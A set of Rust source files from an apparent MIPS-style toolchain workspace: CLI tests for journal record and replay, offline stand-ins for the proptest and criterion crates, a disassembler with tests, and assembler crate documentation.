    fn record_then_replay_round_trips_through_the_cli() {
        let dir = std::env::temp_dir().join("ptaint-cli-journal-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("run.journal");
        let source = r#"int main() {
            char b[16];
            int n = read(0, b, 15);
            write(1, b, n);
            return 6;
        }"#;

        let mut rec = parse(&["p.c", "--quiet"]).unwrap();
        rec.journal_out = Some(path.to_string_lossy().into_owned());
        rec.stdin = b"replay me".to_vec();
        let (report, code) = run_machine(&rec, &build_machine(&rec, source).unwrap());
        assert_eq!(code, 6, "{report}");
        assert!(std::fs::read_to_string(&path)
            .unwrap()
            .starts_with("ptaint-journal v1"));

        // Replay with no stdin attached: the journal re-serves the input.
        let rep = {
            let mut o = parse(&["replay", "p.c", "--journal", "x"]).unwrap();
            o.journal_in = Some(path.to_string_lossy().into_owned());
            o
        };
        let (report, code) = run_machine(&rep, &build_machine(&rep, source).unwrap());
        assert_eq!(code, 6, "{report}");
        assert!(report.contains("--- replay:"), "{report}");

        // A different program diverges from the journal: abnormal stop.
        let other = "int main() { printf(\"hi\\n\"); return 0; }";
        let (report, code) = run_machine(&rep, &build_machine(&rep, other).unwrap());
        assert_eq!(code, 1, "{report}");
        assert!(report.contains("replay diverged"), "{report}");

        // Unreadable and malformed journals are read errors (exit 2).
        let missing = {
            let mut o = rep.clone();
            o.journal_in = Some("/nonexistent-dir/j.txt".into());
            o
        };
        let (report, code) = run_machine(&missing, &build_machine(&missing, source).unwrap());
        assert_eq!(code, 2, "{report}");
        let garbled = dir.join("garbled.journal");
        std::fs::write(&garbled, "not a journal\n").unwrap();
        let bad = {
            let mut o = rep.clone();
            o.journal_in = Some(garbled.to_string_lossy().into_owned());
            o
        };
        let (report, code) = run_machine(&bad, &build_machine(&bad, source).unwrap());
        assert_eq!(code, 2, "{report}");
        assert!(report.contains("bad journal"), "{report}");

        let _ = std::fs::remove_file(&path);
        let _ = std::fs::remove_file(&garbled);
    }

    #[test]
    fn journal_write_failures_exit_4() {
        let mut opts = parse(&["p.c", "--quiet"]).unwrap();
        opts.journal_out = Some("/nonexistent-dir/j.txt".into());
        let machine = build_machine(&opts, "int main() { return 0; }").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, EXIT_ARTIFACT, "{report}");
        assert!(report.contains("cannot write"), "{report}");
    }

    #[test]
    fn watchdog_flag_reaches_the_run() {
        let mut opts = parse(&["p.s", "--asm", "--watchdog-ms", "10"]).unwrap();
        opts.quiet = true;
        let machine = build_machine(&opts, "main: b main").unwrap();
        let (report, code) = run_machine(&opts, &machine);
        assert_eq!(code, 1, "{report}");
    }
}
