//! Offline stand-in for the [`proptest`](https://docs.rs/proptest) crate.
//!
//! The build environment of this repository has no access to crates.io, so
//! this workspace-local crate provides the subset of the proptest API that
//! the test suite actually uses: the [`proptest!`] macro, `prop_assert*`,
//! [`prop_oneof!`], numeric range and `any::<T>()` strategies, tuple and
//! `collection::vec` combinators, `prop_map`/`prop_filter_map`/
//! `prop_recursive`, and string strategies generated from a small regex
//! dialect (character classes, groups, alternation, `{m,n}` repetition, and
//! the `\PC` printable-character class).
//!
//! Differences from real proptest, by design:
//!
//! * generation is **deterministic**: the RNG is seeded from the test's
//!   module path and name, so failures reproduce exactly on every run;
//! * there is **no shrinking** — a failing case panics with the assertion
//!   message of the underlying `assert!`;
//! * `proptest-regressions` files are not consulted.

use std::rc::Rc;

pub mod test_runner {
    //! Configuration and the deterministic RNG.

    /// Per-`proptest!` block configuration. Only `cases` is honoured.
    #[derive(Debug, Clone)]
    pub struct Config {
        /// Number of generated cases per property.
        pub cases: u32,
    }

    /// The name real proptest exports in its prelude.
    pub use Config as ProptestConfig;

    impl Config {
        /// A config running `cases` random cases per property.
        #[must_use]
        pub fn with_cases(cases: u32) -> Config {
            Config { cases }
        }
    }

    impl Default for Config {
        fn default() -> Config {
            Config { cases: 64 }
        }
    }

    /// SplitMix64: small, fast, and good enough for test-case generation.
    #[derive(Debug, Clone)]
    pub struct TestRng {
        state: u64,
    }

    impl TestRng {
        /// Seeds the RNG from an arbitrary label (FNV-1a), so each property
        /// gets a distinct but reproducible stream.
        #[must_use]
        pub fn deterministic(label: &str) -> TestRng {
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in label.bytes() {
                h ^= u64::from(b);
                h = h.wrapping_mul(0x0000_0100_0000_01b3);
            }
            TestRng { state: h }
        }

        /// Next 64 random bits.
        pub fn next_u64(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
            z ^ (z >> 31)
        }

        /// Uniform value in `[0, n)`. `n` must be positive.
        pub fn below(&mut self, n: u64) -> u64 {
            assert!(n > 0, "below(0)");
            self.next_u64() % n
        }

        /// A random boolean.
        pub fn next_bool(&mut self) -> bool {
            self.next_u64() & 1 == 1
        }
    }
}

pub mod strategy {
    //! The [`Strategy`] trait and its combinators.

    use super::regex;
    use super::test_runner::TestRng;
    use std::ops::Range;
    use std::rc::Rc;

    /// A recipe for generating values of one type.
    pub trait Strategy {
        /// The generated type.
        type Value;

        /// Generates one value.
        fn generate(&self, rng: &mut TestRng) -> Self::Value;

        /// Maps generated values through `f`.
        fn prop_map<O, F>(self, f: F) -> Map<Self, F>
        where
            Self: Sized,
            F: Fn(Self::Value) -> O,
        {
            Map { inner: self, f }
        }

        /// Keeps only values for which `f` returns `Some`, retrying
        /// generation. `whence` labels the filter in the panic raised when
        /// no value passes after many attempts.
        fn prop_filter_map<O, F>(self, whence: &'static str, f: F) -> FilterMap<Self, F>
        where
            Self: Sized,
            F: Fn(Self::Value) -> Option<O>,
        {
            FilterMap {
                inner: self,
                whence,
                f,
            }
        }

        /// Recursive strategies: `f` builds a strategy for one more level of
        /// nesting on top of an inner strategy. `depth` bounds the nesting;
        /// `_desired_size` and `_expected_branch_size` are accepted for API
        /// compatibility and ignored.
        fn prop_recursive<S2, F>(
            self,
            depth: u32,
            _desired_size: u32,
            _expected_branch_size: u32,
            f: F,
        ) -> BoxedStrategy<Self::Value>
        where
            Self: Sized + 'static,
            Self::Value: 'static,
            S2: Strategy<Value = Self::Value> + 'static,
            F: Fn(BoxedStrategy<Self::Value>) -> S2,
        {
            let mut level = BoxedStrategy::new(self);
            let mut levels = vec![level.clone()];
            for _ in 0..depth {
                level = BoxedStrategy::new(f(level.clone()));
                levels.push(level.clone());
            }
            BoxedStrategy::new(Union::from_boxed(levels))
        }

        /// Type-erases the strategy.
        fn boxed(self) -> BoxedStrategy<Self::Value>
        where
            Self: Sized + 'static,
            Self::Value: 'static,
        {
            BoxedStrategy::new(self)
        }
    }

    /// A clonable, type-erased strategy.
    pub struct BoxedStrategy<T> {
        gen: Rc<dyn Fn(&mut TestRng) -> T>,
    }

    impl<T> Clone for BoxedStrategy<T> {
        fn clone(&self) -> Self {
            BoxedStrategy {
                gen: Rc::clone(&self.gen),
            }
        }
    }

    impl<T: 'static> BoxedStrategy<T> {
        /// Erases `s`.
        pub fn new<S: Strategy<Value = T> + 'static>(s: S) -> BoxedStrategy<T> {
            BoxedStrategy {
                gen: Rc::new(move |rng| s.generate(rng)),
            }
        }
    }

    impl<T> Strategy for BoxedStrategy<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            (self.gen)(rng)
        }
    }

    /// See [`Strategy::prop_map`].
    pub struct Map<S, F> {
        inner: S,
        f: F,
    }

    impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
        type Value = O;
        fn generate(&self, rng: &mut TestRng) -> O {
            (self.f)(self.inner.generate(rng))
        }
    }

    /// See [`Strategy::prop_filter_map`].
    pub struct FilterMap<S, F> {
        inner: S,
        whence: &'static str,
        f: F,
    }

    impl<S: Strategy, O, F: Fn(S::Value) -> Option<O>> Strategy for FilterMap<S, F> {
        type Value = O;
        fn generate(&self, rng: &mut TestRng) -> O {
            for _ in 0..100_000 {
                if let Some(v) = (self.f)(self.inner.generate(rng)) {
                    return v;
                }
            }
            panic!("prop_filter_map `{}`: no value accepted", self.whence);
        }
    }

    /// Uniform choice between strategies of one value type (`prop_oneof!`).
    pub struct Union<T> {
        choices: Vec<BoxedStrategy<T>>,
    }

    impl<T> Union<T> {
        /// A union over already-boxed choices.
        #[must_use]
        pub fn from_boxed(choices: Vec<BoxedStrategy<T>>) -> Union<T> {
            assert!(!choices.is_empty(), "empty union");
            Union { choices }
        }
    }

    impl<T> Strategy for Union<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            let i = rng.below(self.choices.len() as u64) as usize;
            self.choices[i].generate(rng)
        }
    }

    /// A strategy that always yields a clone of one value.
    #[derive(Debug, Clone)]
    pub struct Just<T: Clone>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;
        fn generate(&self, _rng: &mut TestRng) -> T {
            self.0.clone()
        }
    }

    macro_rules! int_range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for Range<$t> {
                type Value = $t;
                fn generate(&self, rng: &mut TestRng) -> $t {
                    assert!(self.start < self.end, "empty range strategy");
                    // Work in i128 so signed spans cannot overflow.
                    let lo = self.start as i128;
                    let hi = self.end as i128;
                    let span = (hi - lo) as u128;
                    let r = u128::from(rng.next_u64()) % span;
                    (lo + r as i128) as $t
                }
            }
        )*};
    }

    int_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    macro_rules! tuple_strategy {
        ($(($($n:tt $S:ident),+))*) => {$(
            impl<$($S: Strategy),+> Strategy for ($($S,)+) {
                type Value = ($($S::Value,)+);
                fn generate(&self, rng: &mut TestRng) -> Self::Value {
                    ($(self.$n.generate(rng),)+)
                }
            }
        )*};
    }

    tuple_strategy! {
        (0 A, 1 B)
        (0 A, 1 B, 2 C)
        (0 A, 1 B, 2 C, 3 D)
        (0 A, 1 B, 2 C, 3 D, 4 E)
        (0 A, 1 B, 2 C, 3 D, 4 E, 5 F)
    }

    /// String-valued strategy: a `&str` pattern in the supported regex
    /// dialect generates matching strings.
    impl Strategy for &str {
        type Value = String;
        fn generate(&self, rng: &mut TestRng) -> String {
            regex::generate(self, rng)
        }
    }

    /// See [`crate::collection::vec`].
    pub struct VecStrategy<S> {
        pub(crate) element: S,
        pub(crate) size: Range<usize>,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let len = Strategy::generate(&self.size, rng);
            (0..len).map(|_| self.element.generate(rng)).collect()
        }
    }
}

pub mod arbitrary {
    //! `any::<T>()` — the canonical strategy for a type.

    use super::strategy::Strategy;
    use super::test_runner::TestRng;
    use std::marker::PhantomData;

    /// Types with a canonical "any value" strategy.
    pub trait Arbitrary {
        /// Generates an arbitrary value.
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! arb_int {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                fn arbitrary(rng: &mut TestRng) -> $t {
                    rng.next_u64() as $t
                }
            }
        )*};
    }

    arb_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> bool {
            rng.next_bool()
        }
    }

    /// The strategy returned by [`any`].
    pub struct Any<T>(PhantomData<T>);

    impl<T: Arbitrary> Strategy for Any<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }

    /// Strategy producing any value of `T`.
    #[must_use]
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any(PhantomData)
    }
}

pub mod collection {
    //! Collection strategies.

    use super::strategy::{Strategy, VecStrategy};
    use std::ops::Range;

    /// A vector of `size.start..size.end` elements drawn from `element`.
    pub fn vec<S: Strategy>(element: S, size: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, size }
    }
}

mod regex {
    //! A tiny regex-dialect string generator covering the patterns used by
    //! this workspace's tests: literals, escapes, `[...]` classes (with
    //! ranges and escapes), `(...)` groups, `|` alternation, `?`/`*`/`+`,
    //! `{n}`/`{m,n}` repetition, and `\PC` (any printable ASCII char).

    use super::test_runner::TestRng;

    #[derive(Debug, Clone)]
    enum Atom {
        Literal(char),
        /// Expanded set of candidate characters.
        Class(Vec<char>),
        /// `\PC`: printable ASCII.
        Printable,
        Group(Vec<Vec<(Atom, (u32, u32))>>),
    }

    struct Parser<'a> {
        chars: std::iter::Peekable<std::str::Chars<'a>>,
        pattern: &'a str,
    }

    impl<'a> Parser<'a> {
        fn fail(&self, what: &str) -> ! {
            panic!("unsupported regex pattern `{}`: {what}", self.pattern)
        }

        /// Parses alternatives until end of input or an unbalanced `)`.
        fn alternatives(&mut self, in_group: bool) -> Vec<Vec<(Atom, (u32, u32))>> {
            let mut alts = vec![Vec::new()];
            loop {
                match self.chars.peek().copied() {
                    None => {
                        if in_group {
                            self.fail("unterminated group");
                        }
                        break;
                    }
                    Some(')') if in_group => break,
                    Some(')') => self.fail("unbalanced `)`"),
                    Some('|') => {
                        self.chars.next();
                        alts.push(Vec::new());
                    }
                    Some(_) => {
                        let atom = self.atom();
                        let rep = self.repetition();
                        alts.last_mut().unwrap().push((atom, rep));
                    }
                }
            }
            alts
        }

        fn atom(&mut self) -> Atom {
            match self.chars.next().unwrap() {
                '(' => {
                    let alts = self.alternatives(true);
                    assert_eq!(self.chars.next(), Some(')'));
                    Atom::Group(alts)
                }
                '[' => Atom::Class(self.class()),
                '\\' => match self.chars.next() {
                    Some('P') => {
                        // Unicode category complement; the tests only use
                        // `\PC` ("not control"), rendered as printable ASCII.
                        match self.chars.next() {
                            Some('C') => Atom::Printable,
                            _ => self.fail("only \\PC is supported"),
                        }
                    }
                    Some('d') => Atom::Class(('0'..='9').collect()),
                    Some(c) => Atom::Literal(c),
                    None => self.fail("trailing backslash"),
                },
                '.' => Atom::Printable,
                c @ ('?' | '*' | '+' | '{') => self.fail(&format!("dangling repetition `{c}`")),
                c => Atom::Literal(c),
            }
        }

        fn class(&mut self) -> Vec<char> {
            let mut out = Vec::new();
            loop {
                let c = match self.chars.next() {
                    None => self.fail("unterminated class"),
                    Some(']') => break,
                    Some('\\') => match self.chars.next() {
                        Some(e) => e,
                        None => self.fail("trailing backslash in class"),
                    },
                    Some(c) => c,
                };
                // Range `a-z` (a `-` before `]` is a literal).
                if self.chars.peek() == Some(&'-') {
                    let mut look = self.chars.clone();
                    look.next();
                    if look.peek().is_some_and(|&n| n != ']') {
                        self.chars.next(); // consume '-'
                        let hi = match self.chars.next() {
                            Some('\\') => self.chars.next().unwrap_or(c),
                            Some(h) => h,
                            None => self.fail("unterminated range"),
                        };
                        for ch in c..=hi {
                            out.push(ch);
                        }
                        continue;
                    }
                }
                out.push(c);
            }
            if out.is_empty() {
                self.fail("empty class");
            }
            out
        }

        /// `{n}`, `{m,n}`, `?`, `*`, `+`, or exactly-once.
        fn repetition(&mut self) -> (u32, u32) {
            match self.chars.peek().copied() {
                Some('?') => {
                    self.chars.next();
                    (0, 1)
                }
                Some('*') => {
                    self.chars.next();
                    (0, 8)
                }
                Some('+') => {
                    self.chars.next();
                    (1, 8)
                }
                Some('{') => {
                    self.chars.next();
                    let mut spec = String::new();
                    loop {
                        match self.chars.next() {
                            Some('}') => break,
                            Some(c) => spec.push(c),
                            None => self.fail("unterminated repetition"),
                        }
                    }
                    let parse = |s: &str| -> u32 {
                        s.parse().unwrap_or_else(|_| self.fail("bad repetition"))
                    };
                    match spec.split_once(',') {
                        None => {
                            let n = parse(&spec);
                            (n, n)
                        }
                        Some((m, n)) => (parse(m), parse(n)),
                    }
                }
                _ => (1, 1),
            }
        }
    }

    fn emit(seq: &[(Atom, (u32, u32))], rng: &mut TestRng, out: &mut String) {
        for (atom, (min, max)) in seq {
            let count = min + rng.below(u64::from(max - min + 1)) as u32;
            for _ in 0..count {
                match atom {
                    Atom::Literal(c) => out.push(*c),
                    Atom::Class(set) => {
                        out.push(set[rng.below(set.len() as u64) as usize]);
                    }
                    Atom::Printable => {
                        out.push(char::from(0x20 + rng.below(0x5f) as u8));
                    }
                    Atom::Group(alts) => {
                        let alt = &alts[rng.below(alts.len() as u64) as usize];
                        emit(alt, rng, out);
                    }
                }
            }
        }
    }

    /// Generates one string matching `pattern`.
    pub fn generate(pattern: &str, rng: &mut TestRng) -> String {
        let mut parser = Parser {
            chars: pattern.chars().peekable(),
            pattern,
        };
        let alts = parser.alternatives(false);
        let mut out = String::new();
        let alt = &alts[rng.below(alts.len() as u64) as usize];
        emit(alt, rng, &mut out);
        out
    }
}

pub mod prelude {
    //! The glob-import surface, mirroring `proptest::prelude::*`.

    pub use crate::arbitrary::any;
    pub use crate::strategy::{BoxedStrategy, Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

/// Marker so generated values are droppable in the macro without warnings.
#[doc(hidden)]
pub fn __touch<T>(_: &T) {}

#[doc(hidden)]
pub use std::rc::Rc as __Rc;

/// Defines property tests. Each `fn name(arg in strategy, ...) { body }`
/// becomes a `#[test]`-able function running `config.cases` generated cases.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl! { cfg = ($cfg); $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl! {
            cfg = (<$crate::test_runner::ProptestConfig as ::std::default::Default>::default());
            $($rest)*
        }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (cfg = ($cfg:expr); $(
        $(#[$meta:meta])*
        fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
    )*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __config = $cfg;
                let mut __rng = $crate::test_runner::TestRng::deterministic(
                    concat!(module_path!(), "::", stringify!($name)),
                );
                for __case in 0..__config.cases {
                    let _ = __case;
                    $(
                        let $arg =
                            $crate::strategy::Strategy::generate(&($strat), &mut __rng);
                    )+
                    $body
                }
            }
        )*
    };
}

/// In this stand-in, `prop_assert!` is `assert!` (no shrinking to report).
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => { assert!($cond) };
    ($cond:expr, $($fmt:tt)+) => { assert!($cond, $($fmt)+) };
}

/// In this stand-in, `prop_assert_eq!` is `assert_eq!`.
#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr $(,)?) => { assert_eq!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)+) => { assert_eq!($a, $b, $($fmt)+) };
}

/// In this stand-in, `prop_assert_ne!` is `assert_ne!`.
#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr $(,)?) => { assert_ne!($a, $b) };
    ($a:expr, $b:expr, $($fmt:tt)+) => { assert_ne!($a, $b, $($fmt)+) };
}

/// Uniform choice among strategies producing the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::strategy::Union::from_boxed(vec![
            $($crate::strategy::Strategy::boxed($strat)),+
        ])
    };
}

// Silence the unused import of Rc at crate root when macros are not expanded.
#[doc(hidden)]
pub type __KeepRc = Rc<()>;

#[cfg(test)]
mod tests {
    use crate::prelude::*;
    use crate::test_runner::TestRng;

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = TestRng::deterministic("ranges");
        for _ in 0..1000 {
            let v = Strategy::generate(&(10u32..20), &mut rng);
            assert!((10..20).contains(&v));
            let s = Strategy::generate(&(-5i32..5), &mut rng);
            assert!((-5..5).contains(&s));
        }
    }

    #[test]
    fn regex_patterns_generate_matching_shapes() {
        let mut rng = TestRng::deterministic("regex");
        for _ in 0..200 {
            let s = Strategy::generate(&"[A-Z]{1,8}=[a-z0-9]{0,12}", &mut rng);
            let (k, v) = s.split_once('=').expect("must contain =");
            assert!((1..=8).contains(&k.len()), "{s}");
            assert!(v.len() <= 12, "{s}");
            assert!(k.chars().all(|c| c.is_ascii_uppercase()));
            assert!(v
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit()));

            let p = Strategy::generate(&"\\PC{0,200}", &mut rng);
            assert!(p.len() <= 200);
            assert!(p.chars().all(|c| (' '..='~').contains(&c)));

            let asm = Strategy::generate(
                &"[a-z]{1,6} \\$[a-z0-9]{1,4}(, ?(\\$[a-z0-9]{1,4}|-?[0-9]{1,5}|0x[0-9a-f]{1,8})){0,3}",
                &mut rng,
            );
            assert!(asm.contains('$'), "{asm}");
        }
    }

    #[test]
    fn determinism_across_runs() {
        let mk = || {
            let mut rng = TestRng::deterministic("same-label");
            (0..16).map(|_| rng.next_u64()).collect::<Vec<_>>()
        };
        assert_eq!(mk(), mk());
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        /// The macro itself: plain args, tuples, vec, oneof, recursion.
        #[test]
        fn macro_surface(
            x in 0u32..100,
            pair in (0usize..4, any::<bool>()),
            v in crate::collection::vec(0u8..16, 0..6),
        ) {
            prop_assert!(x < 100);
            prop_assert!(pair.0 < 4);
            prop_assert!(v.len() < 6, "len {}", v.len());
            prop_assert_eq!(v.iter().filter(|&&b| b >= 16).count(), 0);
        }
    }
}
