//! Offline stand-in for the [`criterion`](https://docs.rs/criterion) crate.
//!
//! The build environment has no access to crates.io, so this workspace-local
//! crate provides the subset of the criterion API that the bench targets in
//! `crates/bench` use: [`Criterion::benchmark_group`], group configuration
//! (`throughput`, `sample_size`), `bench_function` / `bench_with_input`,
//! [`Bencher::iter`], and the [`criterion_group!`] / [`criterion_main!`]
//! macros. Timing is a plain wall-clock measurement with one warmup pass —
//! fine for spotting order-of-magnitude regressions, not for statistics.

use std::time::{Duration, Instant};

/// Throughput annotation attached to a benchmark group (printed, not used
/// for statistics in this stand-in).
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Elements processed per iteration.
    Elements(u64),
    /// Bytes processed per iteration.
    Bytes(u64),
}

/// Identifier for a parameterised benchmark.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    /// An id built from a function name and a parameter.
    pub fn new<P: std::fmt::Display>(function: &str, parameter: P) -> BenchmarkId {
        BenchmarkId {
            id: format!("{function}/{parameter}"),
        }
    }

    /// An id that is just the parameter.
    pub fn from_parameter<P: std::fmt::Display>(parameter: P) -> BenchmarkId {
        BenchmarkId {
            id: parameter.to_string(),
        }
    }
}

impl std::fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.id)
    }
}

/// Drives the timed closure of one benchmark.
pub struct Bencher {
    /// Measured mean time per iteration, filled in by [`Bencher::iter`].
    elapsed_per_iter: Duration,
    iters: u64,
}

impl Bencher {
    /// Times `f`: one warmup call, then batches until ~100 ms or 10 batches.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        std::hint::black_box(f());
        let budget = Duration::from_millis(100);
        let started = Instant::now();
        let mut iters: u64 = 0;
        while iters < 10 || (started.elapsed() < budget && iters < 1_000_000) {
            std::hint::black_box(f());
            iters += 1;
        }
        self.iters = iters.max(1);
        self.elapsed_per_iter = started.elapsed() / u32::try_from(self.iters).unwrap_or(u32::MAX);
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    name: String,
    criterion: &'a mut Criterion,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Annotates subsequent benchmarks with a throughput figure.
    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    /// Accepted for API compatibility; this harness sizes batches by time.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    /// Accepted for API compatibility; warmup is fixed at one pass.
    pub fn warm_up_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    /// Accepted for API compatibility.
    pub fn measurement_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    fn run_one<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut f: F) {
        let mut b = Bencher {
            elapsed_per_iter: Duration::ZERO,
            iters: 0,
        };
        f(&mut b);
        let per_iter = b.elapsed_per_iter;
        let thr = match self.throughput {
            Some(Throughput::Elements(n)) if per_iter > Duration::ZERO => {
                let rate = n as f64 / per_iter.as_secs_f64();
                format!("  ({rate:.0} elem/s)")
            }
            Some(Throughput::Bytes(n)) if per_iter > Duration::ZERO => {
                let rate = n as f64 / per_iter.as_secs_f64() / (1024.0 * 1024.0);
                format!("  ({rate:.1} MiB/s)")
            }
            _ => String::new(),
        };
        println!(
            "bench {:40} {:>12.3?}/iter over {} iters{}",
            format!("{}/{}", self.name, id),
            per_iter,
            b.iters,
            thr
        );
        self.criterion.benches_run += 1;
    }

    /// Runs a benchmark named `id` within this group.
    pub fn bench_function<I: std::fmt::Display, F: FnMut(&mut Bencher)>(
        &mut self,
        id: I,
        f: F,
    ) -> &mut Self {
        self.run_one(&id.to_string(), f);
        self
    }

    /// Runs a benchmark parameterised by `input`.
    pub fn bench_with_input<I, F>(&mut self, id: BenchmarkId, input: &I, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        self.run_one(&id.to_string(), |b| f(b, input));
        self
    }

    /// Ends the group (printing is incremental, so this is a no-op).
    pub fn finish(&mut self) {}
}

/// Entry point mirroring `criterion::Criterion`.
#[derive(Default)]
pub struct Criterion {
    benches_run: usize,
}

impl Criterion {
    /// Opens a named benchmark group.
    pub fn benchmark_group<S: Into<String>>(&mut self, name: S) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.into(),
            criterion: self,
            throughput: None,
        }
    }

    /// Runs a stand-alone benchmark.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, f: F) -> &mut Self {
        let mut group = BenchmarkGroup {
            name: String::new(),
            criterion: self,
            throughput: None,
        };
        group.run_one(id, f);
        self
    }
}

/// Prevents the compiler from optimising a value away.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Bundles bench functions into one group runner, mirroring criterion's
/// macro of the same name.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $crate::Criterion::default();
            $($target(&mut criterion);)+
        }
    };
}

/// Generates `fn main()` running each group (bench targets set
/// `harness = false`).
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}
