//! Disassembly of an [`Image`] back into annotated assembly text.

use ptaint_isa::Instr;

use crate::Image;

/// Disassembles the text segment of `image`, one line per instruction, with
/// addresses and symbol annotations:
///
/// ```text
/// 00400000 <main>:  addiu $29,$29,-32
/// 00400004          sw $31,28($29)
/// ```
///
/// Undecodable words render as `.word 0x…`.
#[must_use]
pub fn disassemble(image: &Image) -> String {
    let mut out = String::new();
    for (i, &word) in image.text.iter().enumerate() {
        let addr = image.text_base + 4 * i as u32;
        let label = image
            .symbol_at(addr)
            .map(|s| format!(" <{s}>:"))
            .unwrap_or_default();
        let body = match Instr::decode(word) {
            Ok(insn) => insn.to_string(),
            Err(_) => format!(".word {word:#010x}"),
        };
        out.push_str(&format!("{addr:08x}{label:<12} {body}\n"));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assemble;

    #[test]
    fn disassembly_round_trips_through_display() {
        let img =
            assemble("main: addiu $sp, $sp, -32\n      sw $ra, 28($sp)\n      jr $ra\n").unwrap();
        let text = disassemble(&img);
        assert!(text.contains("<main>:"), "{text}");
        assert!(text.contains("addiu $29,$29,-32"), "{text}");
        assert!(text.contains("sw $31,28($29)"), "{text}");
        assert!(text.contains("jr $31"), "{text}");
    }

    #[test]
    fn illegal_words_render_as_word_directive() {
        let mut img = assemble("nop").unwrap();
        img.text[0] = 0xffff_ffff;
        let text = disassemble(&img);
        assert!(text.contains(".word 0xffffffff"), "{text}");
    }
}
