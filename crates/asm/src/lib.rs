#![warn(missing_docs)]

//! # ptaint-asm — assembler, image format, and disassembler
//!
//! A two-pass assembler for the `ptaint` ISA. The mini-C compiler
//! (`ptaint-cc`) emits this textual assembly, and hand-written runtime pieces
//! (`crt0`, syscall stubs in `ptaint-guest`) are written in it directly.
//!
//! Supported syntax:
//!
//! * sections `.text` / `.data`, labels `name:`, comments `#` and `;`;
//! * data directives `.word`, `.half`, `.byte`, `.ascii`, `.asciiz`,
//!   `.space`, `.align`, `.globl`;
//! * every machine instruction of [`ptaint_isa::Instr`] in classic MIPS
//!   notation (`lw $t0,4($sp)`, `beq $a0,$zero,done`, …);
//! * pseudo-instructions `li`, `la`, `move`, `nop`, `b`, `beqz`, `bnez`,
//!   `blt`, `bge`, `bgt`, `ble`, `bltu`, `bgeu`, `not`, `neg`;
//! * relocation operators `%hi(sym)` / `%lo(sym)` usable as immediates.
//!
//! The result is an [`Image`]: position-resolved text and data bytes plus a
//! symbol table, ready to be mapped by the loader in `ptaint-os`.
//!
//! ```
//! use ptaint_asm::assemble;
//!
//! let image = assemble(r#"
//!     .data
//! msg: .asciiz "hi"
//!     .text
//! main:
//!     la   $a0, msg
//!     li   $v0, 4          # write
//!     jr   $ra
//! "#)?;
//! assert_eq!(image.entry, ptaint_isa::TEXT_BASE);
//! assert_eq!(image.text.len(), 4); // la expands to lui+ori
//! # Ok::<(), ptaint_asm::AsmError>(())
//! ```

mod assemble;
mod disasm;
mod image;

pub use assemble::{assemble, AsmError};
pub use disasm::disassemble;
pub use image::Image;
