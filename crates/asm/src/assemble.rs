//! The two-pass assembler.

